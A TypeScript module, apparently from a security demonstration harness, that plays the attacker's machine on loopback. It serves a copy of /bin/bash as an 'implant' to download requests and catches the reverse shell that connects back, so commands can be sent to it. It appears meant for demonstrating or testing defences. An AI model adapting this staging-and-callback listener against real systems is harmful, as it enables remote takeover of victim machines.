import { createReadStream } from 'node:fs';
import type { Socket } from 'node:net';
import { withDeadline } from '@ringfence/base';
import { DemoError } from './errors.ts';
import { LoopbackServer } from './loopback-server.ts';

/**
 * The attacker's machine, on loopback: hands out the implant (a copy of the shell) and takes the reverse shell.
 * Whoever sends a line that starts with GET gets the implant; any other connection is a shell that has come home.
 */
export class Attacker implements AsyncDisposable {
  readonly #server: LoopbackServer;
  readonly #home: Promise<Socket>;
  #shell: Socket | undefined;

  private constructor(server: LoopbackServer, home: Promise<Socket>) {
    this.#server = server;
    this.#home = home;
    void home.then((socket) => {
      this.#shell = socket;
    });
  }

  static async listen(): Promise<Attacker> {
    const { promise, resolve } = Promise.withResolvers<Socket>();
    return new Attacker(await LoopbackServer.listen((socket) => accept(socket, resolve)), promise);
  }

  get port(): number {
    return this.#server.port;
  }

  /** The reverse shell, once it is there. */
  async shell(timeoutMs: number): Promise<Socket> {
    return withDeadline(this.#home, timeoutMs, () => new DemoError(`no reverse shell within ${timeoutMs} ms`));
  }

  /** Says a line to the reverse shell. */
  say(line: string): void {
    this.#shell?.write(`${line}\n`);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server[Symbol.asyncDispose]();
  }
}

function accept(socket: Socket, shellHome: (socket: Socket) => void): void {
  // The downloader speaks first; a shell waits to be told. 150 ms of silence tells them apart.
  const silence = setTimeout(() => shellHome(socket), 150);
  socket.once('data', (chunk) => {
    if (!chunk.toString('latin1').startsWith('GET ')) return;
    clearTimeout(silence);
    if (chunk.includes('HTTP/'))
      socket.write('HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n');
    createReadStream('/bin/bash').pipe(socket);
  });
}
